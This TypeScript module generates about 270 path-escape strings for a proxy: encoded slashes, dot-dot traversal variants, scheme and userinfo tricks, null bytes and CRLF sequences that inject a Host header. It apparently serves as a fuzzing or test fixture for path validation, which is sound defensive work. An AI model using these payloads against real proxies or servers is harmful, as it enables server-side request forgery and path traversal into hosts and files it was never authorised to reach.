/** What a slash, or a backslash that is taken for one, may be written as. */
const SLASHES = [
  '/',
  '\\',
  '%2f',
  '%5c',
  '%252f',
  '%255C',
  '/\\',
  '\\/',
  '%2F%5C',
  '%c0%af',
  '%e2%81%84',
  '%ef%bc%8f',
] as const;

/** What leads to the directory above. */
const DOTS = [
  '..',
  '%2e%2e',
  '.%2e',
  '%2E.',
  '%252e%252e',
  '..;',
  '..;x=1',
  '%c0%ae%c0%ae',
  '.%00.',
  '..%00',
  '...',
  '. .',
];

/** What stands between the name of a proxy and a path that is to be read as another host. */
function hostForms(authority: string): string[] {
  const doubled = SLASHES.flatMap((slash) => [`/${slash}${authority}/x`, `${slash}${slash}${authority}/x`]);
  const schemes = [
    'http:',
    'https:',
    'http:/',
    'http:\\\\',
    'http:%2f%2f',
    'HTTP:///',
    'ftp://',
    'file://',
    'javascript://',
  ];
  const userinfo = ['@', ':@', ':80@', 'user@', 'user:password@', '%40', '/@', '/%40', '/;@', '.', ':'];
  const marks = ['?//', '?@', '?http://', '#//', '#@', '?#@', ';//', '/x;@', '/x?u=//', '/?/../..//', '/x#/../..//'];
  const blanks = [
    '%09',
    '%0a',
    '%0d%0a',
    '%20',
    '%00',
    '%0d%0aHost:%20',
    '%E5%98%8D%E5%98%8AHost:%20',
    '%c2%a0',
    '%ef%bb%bf',
  ];
  return [
    ...doubled,
    ...schemes.flatMap((scheme) => [`/${scheme}//${authority}/x`, `/${scheme}${authority}/x`]),
    ...userinfo.map((text) => `${text}${authority}/x`),
    ...marks.map((text) => `${text}${authority}/x`),
    ...blanks.flatMap((blank) => [`/${blank}//${authority}/x`, `//${blank}${authority}/x`, `/x${blank}${authority}`]),
  ];
}

/** What is to lead out of a path, to another host or to the root of this one. */
function dotForms(authority: string): string[] {
  return DOTS.flatMap((dots) => [
    `/${dots}/x`,
    `/${dots}/${dots}/${dots}/x`,
    `/a/${dots}/${dots}/x`,
    `/${dots}//${authority}/x`,
    `/a${dots}/`,
    ...SLASHES.slice(1, 6).map((slash) => `/a${slash}${dots}${slash}${dots}${slash}x`),
  ]);
}

/**
 * Some 270 texts to follow the name of a proxy in a path: each tries to have the call go to `authority`, or out of the base
 * path of its target.
 */
export function escapePaths(authority: string): string[] {
  return [...new Set([...hostForms(authority), ...dotForms(authority)])];
}
